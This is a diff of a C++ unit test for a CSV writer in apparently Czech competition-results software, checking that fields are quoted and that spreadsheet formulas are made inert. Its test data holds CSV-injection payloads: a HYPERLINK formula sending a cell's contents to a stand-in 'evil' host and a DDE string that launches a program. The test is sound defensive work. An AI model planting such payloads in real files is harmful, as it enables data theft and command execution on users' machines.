@@ -1,33 +1,17 @@
 #include "vysledky/CsvWriter.h"
-#include "tests/vysledky/LogBytes.h"
-#include "tests/vysledky/ReadLog.h"
+#include "tests/support/Printers.h"
 
 #include <gtest/gtest.h>
 
-TEST(CsvWriter, WritesTheHeadersInUtf8WithCrLf) {
-    const ReadLog read("");
-    EXPECT_EQ(read.attempts,
-              QByteArray("\xEF\xBB\xBFpokus;dru\xC5\xBEstvo;dr\xC3\xA1ha 1;dr\xC3\xA1ha 2;"
-                         "v\xC3\xBDsledek;stav\r\n"));
-    EXPECT_EQ(read.ranking,
-              QByteArray("\xEF\xBB\xBFm\xC3\xADsto;dru\xC5\xBEstvo;v\xC3\xBDsledek\r\n"));
-}
-
-TEST(CsvWriter, QuotesFieldsHoldingSemicolonsOrQuotes) {
-    const QByteArray log = logOf({"SDH \"Orel\"; Lhota", "@1 00:00:17:000", "\"", "@1 00:00:17:000",
-                                  "a;b", "@1 00:00:17:000", "a, b 'c'", "@1 0;0"});
-    const ReadLog read(log);
-    EXPECT_EQ(read.attempts, attemptsHeader +
-                                 "1;\"SDH \"\"Orel\"\"; Lhota\";00:00:17:000;;;neúplný\r\n"
-                                 "2;\"\"\"\";00:00:17:000;;;neúplný\r\n"
-                                 "3;\"a;b\";00:00:17:000;;;neúplný\r\n"
-                                 "4;a, b 'c';\"0;0\";;;neúplný\r\n");
-}
-
-// What a spreadsheet would run as a formula gets a "'" in front; numbers, times and other text
-// stay as they are.
-TEST(CsvWriter, MakesFormulasInertAndLeavesTheRest) {
+// A field holding a semicolon, a quote or a line end is quoted, its quotes doubled. What a
+// spreadsheet would run as a formula gets a "'" in front; numbers, times and other text stay as
+// they are.
+TEST(CsvWriter, QuotesFieldsAndMakesFormulasInert) {
     const std::pair<const char16_t*, const char16_t*> cells[] = {
+        {u"SDH \"Orel\"; Lhota", u"\"SDH \"\"Orel\"\"; Lhota\""},
+        {u"\"", u"\"\"\"\""},
+        {u"a;b", u"\"a;b\""},
+        {u"a, b 'c'", u"a, b 'c'"},
         {u"=HYPERLINK(\"http://evil/?x=\"&A1,\"klik\")",
          u"\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"klik\"\")\""},
         {u"+cmd|' /C calc'!A0", u"'+cmd|' /C calc'!A0"},
